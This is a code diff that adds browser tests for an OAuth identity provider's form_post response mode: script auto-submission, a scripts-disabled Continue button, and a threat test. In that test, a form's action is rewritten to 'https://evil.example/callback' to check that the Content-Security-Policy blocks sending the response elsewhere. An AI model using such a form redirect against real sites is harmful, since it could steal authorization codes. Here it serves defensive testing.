@@ -214,3 +214,60 @@ def test_a_name_that_anybody_can_take(site: Site, phone: Window) -> None:
     phone.open(f"{trusted.issuer}/account")
     expect(phone.page.get_by_text("not verified by Acme Workforce")).to_be_visible()
     phone.keep("phone-dark-account-registered-itself")
+
+
+def posted(window: Window, host: str = "app.example") -> dict[str, str]:
+    """What the application was told by a form: it leads the browser on to a page that names the fields."""
+    window.page.wait_for_url(f"https://{host}/posted?**")
+    return Answer(window.page.url).values
+
+
+@pytest.mark.standard("OAuth 2.0 Form Post Response Mode")
+def test_a_response_is_posted_without_a_click(site: Site, window: Window) -> None:
+    """The page's own script sends the form; the browser has no complaint, and no address has the code."""
+    client = agent(site)
+    addresses: list[str] = []
+    window.page.on("request", lambda request: addresses.append(request.url))
+    window.open(client.url(response_mode="form_post"))
+    sign_in(window)
+    if window.page.get_by_role("button", name="Allow", exact=True).count():
+        window.button("Allow", exact=True).click()
+
+    answer = posted(window)
+
+    assert (answer["state"], answer["iss"]) == (client.state, client.issuer)
+    assert [url for url in addresses if "code=" in url] == [window.page.url]
+    assert client.redeem(answer["code"]).status_code == 200
+
+
+@pytest.mark.standard("OAuth 2.0 Form Post Response Mode")
+def test_a_response_is_posted_by_a_button_where_scripts_do_not_run(site: Site, chrome: Browser) -> None:
+    """Errors as well: the page names the host that the answer goes to."""
+    client = agent(site)
+    with chromium.window(chrome, scripts=False) as window:
+        window.open(client.url(response_mode="form_post", prompt="none"))
+        window.shows("Continue to app.example")
+
+        window.button("Continue").click()
+
+        assert posted(window)["error"] == "login_required"
+
+
+@pytest.mark.threat("6p")
+@pytest.mark.standard("OAuth 2.0 Form Post Response Mode")
+def test_a_posted_response_goes_to_the_application_alone(site: Site, chrome: Browser) -> None:
+    """The content policy names its origin: a form that is changed to go elsewhere is not sent."""
+    address = agent(site).url(response_mode="form_post", prompt="none")
+    with chromium.window(chrome, scripts=False) as window:
+        window.open(address).button("Continue").click()
+        assert posted(window)["error"] == "login_required"
+
+        sent: list[str] = []
+        window.page.on("request", lambda request: sent.append(request.url))
+        button = window.open(address).button("Continue")
+        button.evaluate("e => e.form.action = 'https://evil.example/callback'")
+        with window.page.expect_console_message(lambda told: "form-action" in told.text):
+            button.evaluate("e => e.click()")
+
+        assert not [url for url in sent if "evil.example" in url]
+        window.complaints.clear()
